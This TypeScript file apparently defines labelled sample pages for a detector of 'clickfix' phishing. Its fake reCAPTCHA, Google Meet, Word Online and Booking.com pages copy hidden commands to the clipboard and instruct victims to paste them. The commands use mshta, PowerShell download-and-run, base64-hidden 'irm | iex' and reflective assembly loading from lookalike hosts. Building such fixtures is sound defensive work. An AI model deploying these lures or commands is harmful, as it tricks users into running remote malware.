import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-clickfix-recaptcha-mshta-fr',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://boulangerie-martin-lyon.fr/verification.html',
  body: doc({
    lang: 'fr',
    title: 'Vérification de sécurité',
    css: `body{font-family:Roboto,Arial,sans-serif;background:#f9f9f9}.r{width:304px;margin:15vh auto;background:#fff;border:1px solid #d3d3d3;padding:20px;box-shadow:0 0 4px rgba(0,0,0,.08)}
.r button{background:#1a73e8;color:#fff;border:0;padding:10px 18px;border-radius:3px;cursor:pointer}.st{display:none;font-size:14px;line-height:1.7}`,
    body: `<div class="r"><div style="display:flex;gap:12px;align-items:center"><img src="/v/logo_48.png" width="32" height="32" alt=""><b>reCAPTCHA</b></div>
<p>Pour continuer, veuillez confirmer que vous n'êtes pas un robot.</p><button id="v">Je ne suis pas un robot</button>
<div class="st" id="st"><b>Étapes de vérification :</b><br>1. Appuyez sur la touche Windows + R<br>2. Dans la fenêtre, appuyez sur Ctrl + V<br>3. Appuyez sur Entrée pour terminer la vérification</div>
<p style="font-size:10px;color:#555">Confidentialité - Conditions</p></div>
<script>
function _b(a){return a.map(function(x){return String.fromCharCode(x)}).join('')}
var cmd=_b([109,115,104,116,97,32])+'https://boulangerie-martin-lyon.fr/v/captcha.hta'+' # ✅ Je ne suis pas un robot - ID de vérification : 2291-88';
document.getElementById('v').addEventListener('click',function(){navigator.clipboard.writeText(cmd).catch(function(){});document.getElementById('st').style.display='block';this.disabled=true;this.textContent='Vérification...'});
</script>`,
  }),
  routes: {
    'boulangerie-martin-lyon.fr/v/logo_48.png': imgRoute(74, 144, 226),
    'boulangerie-martin-lyon.fr/v/captcha.hta': { status: 200, headers: { 'content-type': 'application/hta' }, body: `<html><head><HTA:APPLICATION id="x" windowstate="minimize"><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -ep bypass -w hidden -e SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", 0:self.close</script></head></html>` },
  },
},
{
  id: 'zf-clickfix-meet-microphone-fix',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://meet.google.us-join-call.com/xkd-qpwr-tvn',
  body: doc({
    title: 'Meet - xkd-qpwr-tvn',
    css: `body{margin:0;background:#202124;color:#e8eaed;font-family:"Google Sans",Roboto,Arial,sans-serif}.v{width:60%;margin:8vh auto;background:#3c4043;height:50vh;border-radius:8px;display:flex;align-items:center;justify-content:center}
.e{position:fixed;top:30%;left:50%;transform:translateX(-50%);background:#fff;color:#202124;width:480px;padding:24px;border-radius:8px}.e button{background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px}`,
    body: `<div class="v">Camera is starting…</div>
<div class="e"><h3>⚠ Problem with microphone and camera access</h3><p>Your browser is blocking access to the microphone. To fix the issue and join the meeting:</p><ol><li>Click "Try fix"</li><li>Open <b>Windows PowerShell</b> (Win + X → Terminal)</li><li>Right-click to paste and press Enter</li></ol><button id="fx">Try fix</button></div>
<script>
var p1='$ProgressPreference=\\'SilentlyContinue\\';',p2='$d=\\"$env:TEMP\\\\audiofix.exe\\";',p3='Invoke-WebRequest -Uri https://meet.google.us-join-call.com/drv/AudioDriverFix.exe -OutFile $d; Start-Process $d';
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText(p1+p2+p3);this.textContent='Copied! Now paste in PowerShell'};
</script>`,
  }),
  routes: { 'meet.google.us-join-call.com/drv/AudioDriverFix.exe': fileRoute(pe({ strings: ['AudioDriverFix', 'Realtek HD Audio', 'http://45.146.164.12/gate.php'] }), 'application/octet-stream', 'AudioDriverFix.exe') },
},
{
  id: 'zf-clickfix-word-online-font',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://docs-viewer-online.net/word/view?doc=Agreement_2026.docx',
  body: doc({
    title: 'Agreement_2026.docx - Word',
    css: `body{margin:0;font-family:"Segoe UI",sans-serif;background:#e6e6e6}.rb{background:#185abd;color:#fff;padding:10px 20px}.pg{width:640px;height:70vh;margin:20px auto;background:#fff;padding:50px;color:#ccc}
.al{position:fixed;top:0;left:0;right:0;background:#fde7e9;border-bottom:2px solid #c50f1f;padding:16px 30px;color:#000}.al button{background:#185abd;color:#fff;border:0;padding:8px 18px}`,
    body: `<div class="rb">Word · Agreement_2026.docx</div><div class="pg">██████ ████ ███████ ███ ██████████ ███ ██████<br>████ ███ ██████ ████ ████ ██████</div>
<div class="al"><b>"Word Online" extension is not installed.</b> The document cannot be displayed correctly because the font "Calibri Light" is missing.
<p>How to fix: 1) Click the button "How to fix" 2) Right-click the Windows icon, select "Windows PowerShell (Admin)" 3) Right-click in the console to paste and press Enter.</p><button id="h">How to fix</button></div>
<script>
var x='cG93ZXJzaGVsbCAtbm9wIC13IGhpZGRlbiAtYyAiaXJtIGh0dHBzOi8vZG9jcy12aWV3ZXItb25saW5lLm5ldC9mb250cy9pbnN0YWxsLnBzMSB8IGlleCI=';
document.getElementById('h').onclick=async function(){await navigator.clipboard.writeText(atob(x));alert('The fix has been copied. Paste it in PowerShell and press Enter.')};
</script>`,
  }),
  routes: { 'docs-viewer-online.net/fonts/install.ps1': { status: 200, headers: { 'content-type': 'text/plain' }, body: `$w=New-Object Net.WebClient;$b=$w.DownloadData('https://docs-viewer-online.net/fonts/f.bin');[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)` } },
},
{
  id: 'zf-clickfix-booking-guest-verify-de',
  label: 'clickfix',
  kind: 'clickfix',
  url: 'https://booking-gast-bestaetigung.com/reservierung/5521890/',
  body: doc({
    lang: 'de',
    title: 'Booking.com | Gastbestätigung',
    css: baseCss + `.bk{background:#003580;color:#fff;padding:14px 28px;font-weight:700;font-size:22px}#cap{border:1px solid #ccc;padding:16px;width:340px;background:#f9f9f9;cursor:pointer}#ins{display:none;background:#fff8e1;padding:14px;border:1px solid #f0c36d;margin-top:14px}`,
    body: `<div class="bk">Booking.com</div><main><h2>Gast-Reservierung Nr. 5521890 – Bestätigung erforderlich</h2>
<p>Ein Gast hat eine Beschwerde zu Ihrer Unterkunft eingereicht. Bitte bestätigen Sie, dass Sie kein Roboter sind, um die Nachricht anzuzeigen.</p>
<div id="cap">☐ Ich bin kein Roboter</div>
<div id="ins"><b>Bestätigungsschritte:</b><br>1. Drücken Sie Windows-Taste + R<br>2. Drücken Sie Strg + V<br>3. Drücken Sie Enter</div></main>
<footer>Booking.com B.V. · <a href="#">Datenschutz</a></footer>
<script>
var s='m'+'s'+'hta'+'.exe https://booking-gast-bestaetigung.com/reservierung/guest-msg.hta   # Booking Verifizierung ID 77-31';
document.getElementById('cap').onclick=function(){var ta=document.createElement('textarea');ta.value=s;ta.style.position='fixed';ta.style.opacity='0';document.body.appendChild(ta);ta.select();document.execCommand('copy');document.body.removeChild(ta);this.innerHTML='☑ Überprüfung...';document.getElementById('ins').style.display='block'};
</script>`,
  }),
},
];
